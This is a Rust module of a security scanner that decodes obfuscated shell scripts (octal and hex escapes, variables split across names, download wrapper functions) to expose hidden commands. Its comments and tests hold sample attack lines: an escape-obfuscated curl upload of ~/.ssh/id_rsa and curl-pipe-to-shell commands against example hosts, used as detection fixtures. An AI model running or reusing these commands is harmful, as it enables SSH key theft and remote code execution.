//! A shell script read with its hidden variables put in: `_t=$(printf
//! '\143\165\162\154')` ... `"$_t" --data-binary @"$HOME$_k" "$_ep"` is a
//! `curl` upload of `~/.ssh/id_rsa` once the escapes are decoded and the
//! variables substituted. Line for line, so a finding keeps its line.
//!
//! Read only when a script hides something: a value written as escapes
//! (`printf`/`echo -e` of `\NNN` or `\xHH`, `$'...'`), or a command whose
//! program is a variable (`$a$b ...`, `"$_t" -fsS ...`). A script that
//! merely uses variables is read once, as written.
//!
//! A function whose body is a download (`_fetch() { curl -fsSL "$1"; }`)
//! is read as the download it wraps: each call of it is read as `curl`
//! (`python - <<<"$(_fetch "$MIRROR/shim.py")"` runs what it fetched).

use std::collections::HashMap;
use std::sync::LazyLock;

use regex::Regex;

use super::expansion::rewrite_lines;

/// Most variables read from one file.
const MAX_VARIABLES: usize = 512;
/// Longest value taken from a definition.
const MAX_VALUE: usize = 1024;
/// Rounds of expansion (a variable made of variables).
const ROUNDS: usize = 3;

/// True for a shell script by its extension.
pub fn is_shell(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    [".sh", ".bash", ".zsh", ".ksh"]
        .iter()
        .any(|e| lower.ends_with(e))
}

/// `NAME=value`, after `local`, `export`, `readonly` or `declare`.
static DEFINITION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^\s*(?:(?:local|export|readonly|declare(?:\s+-[a-zA-Z]+)?)\s+)?([A-Za-z_][A-Za-z0-9_]{0,63})=(.*)$")
        .unwrap_or_else(|e| unreachable!("a fixed pattern compiles: {e}"))
});

/// A function's opening: `name() {`, `name() (`, `function name {`.
static FETCHER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^\s*(?:function\s+)?([A-Za-z_][A-Za-z0-9_]{0,63})\s*(?:\(\s*\))?\s*[{(]")
        .unwrap_or_else(|e| unreachable!("a fixed pattern compiles: {e}"))
});

/// A download in a function's body, as a command (after `{`, `;`, `(`,
/// `local u="$1";`), by name or path (`/usr/bin/curl`).
static FETCH_BODY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:^|[{(;&|]|\bcommand)\s*(?:/(?:usr/)?(?:local/)?bin/)?(curl|wget)\b")
        .unwrap_or_else(|e| unreachable!("a fixed pattern compiles: {e}"))
});

/// Most download functions read from one file, and most lines of a body
/// read for the download (a short wrapper's).
const MAX_FETCHERS: usize = 64;
const BODY_LINES: usize = 4;

/// A value made by printing escapes: `$(printf '\143\165')`, `` `echo -e "\x63"` ``.
static PRINTED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"^(?:\$\(|`)\s*(?:printf|echo\s+-[neE]+)\s+(?:--\s+)?(?:'([^']*)'|"([^"]*)")\s*(?:\)|`)$"#)
        .unwrap_or_else(|e| unreachable!("a fixed pattern compiles: {e}"))
});

/// A command whose program is a variable: at the start of a line or after
/// `|`, `;`, `&&`, `||`, `$(`, a `$NAME` or `${NAME}` (quoted or not),
/// possibly glued to another (`$a$b`).
static RUN_FROM_VARIABLE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?:^|[|;&(]|(?-u:\b)then|(?-u:\b)do)\s*"?\$\{?[A-Za-z_][A-Za-z0-9_]*\}?"?(?:\s|$|\$)"#,
    )
    .unwrap_or_else(|e| unreachable!("a fixed pattern compiles: {e}"))
});

/// The text with each `$NAME` and `${NAME}` of a variable the script
/// defines replaced by its value (escapes decoded), line for line; None
/// when the script hides nothing (see the module comment) or nothing changed.
pub fn expand(text: &str) -> Option<String> {
    let mut vars: HashMap<&str, String> = HashMap::new();
    let mut hides = false;
    for line in text.lines() {
        if vars.len() >= MAX_VARIABLES {
            break;
        }
        let Some(c) = DEFINITION.captures(line) else {
            continue;
        };
        let (Some(name), Some(raw)) = (c.get(1), c.get(2)) else {
            continue;
        };
        let (value, decoded) = value_of(raw.as_str().trim());
        hides |= decoded;
        if value.len() <= MAX_VALUE {
            vars.insert(name.as_str(), value);
        }
    }
    let fetchers = fetchers(text);
    if vars.is_empty() && fetchers.is_empty() {
        return None;
    }
    hides |= !fetchers.is_empty();
    hides |= text.lines().any(|l| {
        RUN_FROM_VARIABLE
            .find_iter(l)
            .any(|m| defined_in(m.as_str(), &vars))
    });
    if !hides {
        return None;
    }
    rewrite_lines(text, ROUNDS, |line| {
        let called = (!fetchers.is_empty() && !FETCHER.is_match(line))
            .then(|| calls_replaced(line, &fetchers))
            .flatten();
        let line = called.as_deref().unwrap_or(line);
        if line.contains('$') && !vars.is_empty() {
            Some(substitute(line, &vars))
        } else {
            called.clone()
        }
    })
}

/// The functions of `text` whose body starts with a download, each with
/// the program it runs (`curl` or `wget`).
fn fetchers(text: &str) -> Vec<(&str, &'static str)> {
    let mut found = Vec::new();
    let mut lines = text.lines().peekable();
    while let Some(line) = lines.next() {
        if found.len() >= MAX_FETCHERS {
            break;
        }
        let Some(c) = FETCHER.captures(line) else {
            continue;
        };
        let Some(name) = c.get(1) else {
            continue;
        };
        // `if {` and the like are no function.
        if matches!(
            name.as_str(),
            "if" | "then" | "do" | "else" | "while" | "for"
        ) {
            continue;
        }
        // The body: the rest of the line and, unless it closed there, the
        // next few lines up to the closing brace or parenthesis.
        let rest = &line[c.get(0).map_or(line.len(), |m| m.end())..];
        let mut body: Vec<&str> = vec![rest];
        let closed = |l: &str| l.trim_end().ends_with(['}', ')']) || l.trim() == "}";
        if !closed(rest) {
            while let Some(next) = lines.peek() {
                if body.len() > BODY_LINES {
                    break;
                }
                let next = *next;
                if !next.trim().is_empty() {
                    body.push(next);
                }
                if closed(next) && !next.trim().is_empty() {
                    break;
                }
                lines.next();
            }
        }
        // The first command of the body that is not a local assignment.
        let program = body
            .iter()
            .flat_map(|l| l.split(';'))
            .map(str::trim)
            .find(|cmd| !cmd.is_empty() && !is_assignment(cmd))
            .and_then(|cmd| {
                FETCH_BODY
                    .captures(&format!(" {cmd}"))
                    .and_then(|b| b.get(1))
                    .map(|m| m.as_str().to_owned())
            });
        let program = match program.as_deref() {
            Some("curl") => "curl",
            Some("wget") => "wget",
            _ => continue,
        };
        found.push((name.as_str(), program));
    }
    found
}

/// True for a command that only sets a variable (`local u="$1"`, `u=$1`).
fn is_assignment(cmd: &str) -> bool {
    cmd.starts_with("local ")
        || cmd.starts_with("declare ")
        || (cmd.contains('=') && !cmd.contains(' '))
}

/// `line` with each call of a download function (the name standing as a
/// command: at the start, after `|`, `;`, `&`, `(`, a backquote, or
/// `$(`) replaced by the program it runs; None when there is none.
fn calls_replaced(line: &str, fetchers: &[(&str, &str)]) -> Option<String> {
    // A longer line is kept as written by the rewrite anyway; each
    // replacement copies the rest of the line, so a megabyte line of calls
    // was quadratic (the review of round 41's fixes).
    if line.len() > super::expansion::MAX_LINE {
        return None;
    }
    let mut out = line.to_owned();
    let mut changed = false;
    for &(name, program) in fetchers {
        let mut from = 0;
        while let Some(offset) = out[from..].find(name) {
            let at = from + offset;
            let end = at + name.len();
            let before = out[..at].trim_end();
            let stands = before.is_empty()
                || before.ends_with(['|', ';', '&', '(', '`', '{'])
                || before.ends_with("then")
                || before.ends_with("do");
            let ends = out[end..]
                .chars()
                .next()
                .is_none_or(|c| c.is_whitespace() || matches!(c, ')' | ';' | '|' | '`' | '"'));
            let word_start = !out[..at]
                .chars()
                .next_back()
                .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
            if stands && ends && word_start {
                out.replace_range(at..end, program);
                from = at + program.len();
                changed = true;
            } else {
                from = end;
            }
        }
    }
    changed.then_some(out)
}

/// Whether a [`RUN_FROM_VARIABLE`] match names a variable the script defines.
fn defined_in(matched: &str, vars: &HashMap<&str, String>) -> bool {
    let Some(at) = matched.find('$') else {
        return false;
    };
    let name: String = matched[at + 1..]
        .trim_start_matches('{')
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
        .collect();
    vars.contains_key(name.as_str())
}

/// A definition's value as the shell makes it, and whether escapes were
/// decoded to make it: quotes taken off, `$'...'` and printed escapes
/// decoded; anything else as written.
fn value_of(raw: &str) -> (String, bool) {
    if let Some(inner) = raw.strip_prefix("$'").and_then(|r| r.strip_suffix('\'')) {
        return decoded(inner);
    }
    // `"$(printf ...)"`: the double quotes keep the printed text whole.
    let substitution = raw
        .strip_prefix('"')
        .and_then(|r| r.strip_suffix('"'))
        .unwrap_or(raw);
    if let Some(c) = PRINTED.captures(substitution)
        && let Some(arg) = c.get(1).or_else(|| c.get(2))
    {
        return decoded(arg.as_str());
    }
    let unquoted = [('"', '"'), ('\'', '\'')]
        .iter()
        .find_map(|&(open, close)| raw.strip_prefix(open)?.strip_suffix(close))
        .unwrap_or(raw);
    (unquoted.to_owned(), false)
}

/// `\NNN` (octal), `\xHH`, `\n` and `\t` decoded; true when any escape of
/// a byte was (what hides a word).
fn decoded(s: &str) -> (String, bool) {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut any = false;
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'\\' && i + 1 < bytes.len() {
            let octal = bytes[i + 1..]
                .iter()
                .take(3)
                .take_while(|b| (b'0'..=b'7').contains(b))
                .count();
            let hex = if bytes[i + 1] == b'x' {
                bytes[i + 2..]
                    .iter()
                    .take(2)
                    .take_while(|b| b.is_ascii_hexdigit())
                    .count()
            } else {
                0
            };
            if octal == 3 || (octal > 0 && bytes[i + 1] == b'0') {
                let digits = &s[i + 1..i + 1 + octal];
                if let Ok(b) = u8::from_str_radix(digits, 8) {
                    out.push(b);
                    any = true;
                    i += 1 + octal;
                    continue;
                }
            }
            if hex > 0
                && let Ok(b) = u8::from_str_radix(&s[i + 2..i + 2 + hex], 16)
            {
                out.push(b);
                any = true;
                i += 2 + hex;
                continue;
            }
            match bytes[i + 1] {
                b'n' | b't' => out.push(b' '),
                other => out.push(other),
            }
            i += 2;
            continue;
        }
        out.push(bytes[i]);
        i += 1;
    }
    // A decoded newline would shift the lines after it: a space instead.
    let text = String::from_utf8_lossy(&out).replace(['\n', '\r'], " ");
    (text, any)
}

/// One round: each `$NAME` or `${NAME}` of a known variable replaced by its
/// value; other references stay as written.
fn substitute(line: &str, vars: &HashMap<&str, String>) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(at) = rest.find('$') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        let (name, used) = if let Some(braced) = after.strip_prefix('{') {
            match braced.find('}') {
                Some(end) => (&braced[..end], end + 2),
                None => ("", 0),
            }
        } else {
            let end = after
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .unwrap_or(after.len());
            (&after[..end], end)
        };
        match vars.get(name).filter(|_| !name.is_empty()) {
            Some(value) => {
                out.push_str(value);
                rest = &after[used..];
            }
            None => {
                out.push('$');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scanner::expansion::{MAX_GROWTH, MAX_LINE};

    #[test]
    fn printed_escapes_are_decoded_and_put_in() {
        let sh = "f() {\n  local _t _k\n  _t=$(printf '\\143\\165\\162\\154')\n  _k=$(printf '\\057\\056\\163\\163\\150\\057\\151\\144\\137\\162\\163\\141')\n  \"$_t\" -X POST --data-binary @\"$HOME$_k\" \"$EP\"\n}\n";
        let out = expand(sh).unwrap_or_default();
        assert_eq!(out.lines().count(), sh.lines().count());
        assert_eq!(
            out.lines().nth(4),
            Some("  \"curl\" -X POST --data-binary @\"$HOME/.ssh/id_rsa\" \"$EP\"")
        );
    }

    #[test]
    fn ansi_c_quotes_and_hex_escapes_are_decoded() {
        let sh = "a=$'\\x63\\x75\\x72\\x6c'\nb=\"$(echo -e '\\x7c\\x20sh')\"\n$a https://x.example/i $b\n";
        let out = expand(sh).unwrap_or_default();
        assert_eq!(out.lines().nth(2), Some("curl https://x.example/i | sh"));
    }

    #[test]
    fn a_program_split_over_variables_is_put_together() {
        let sh = "a=cu\nb=rl\n$a$b -s https://x.example/p | bash\n";
        let out = expand(sh).unwrap_or_default();
        assert_eq!(
            out.lines().nth(2),
            Some("curl -s https://x.example/p | bash")
        );
    }

    #[test]
    fn a_script_that_hides_nothing_is_not_read_again() {
        let sh = "OUT=build\nmkdir -p \"$OUT\"\ncp -r src \"$OUT/\"\necho \"done: ${OUT}\"\n";
        assert_eq!(expand(sh), None);
        assert!(is_shell("scripts/x.sh") && is_shell("a.BASH") && !is_shell("x.py"));
    }

    #[test]
    fn expansion_is_bounded() {
        // Many short lines naming a long value: the file grows a bounded amount.
        let v = "x".repeat(1000);
        let sh = format!("A={v}\n$a$b\n{}", "$A\n".repeat(20_000));
        let out = expand(&sh).unwrap_or_default();
        assert!(out.len() <= sh.len() + MAX_GROWTH + 4096);
        assert_eq!(out.lines().count(), sh.lines().count());
        let sh = "A=\"$B$B$B$B\"\nB=\"$C$C$C$C\"\nC=\"$D$D$D$D\"\nD=xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n$A $A $A $A $A $A $A $A\n";
        let out = expand(sh).unwrap_or_default();
        assert!(out.lines().all(|l| l.len() <= MAX_LINE));
        let loop_ = "X=\"$X$X\"\n$X\n";
        let out = expand(loop_).unwrap_or_default();
        assert!(out.lines().all(|l| l.len() <= MAX_LINE));
    }
}
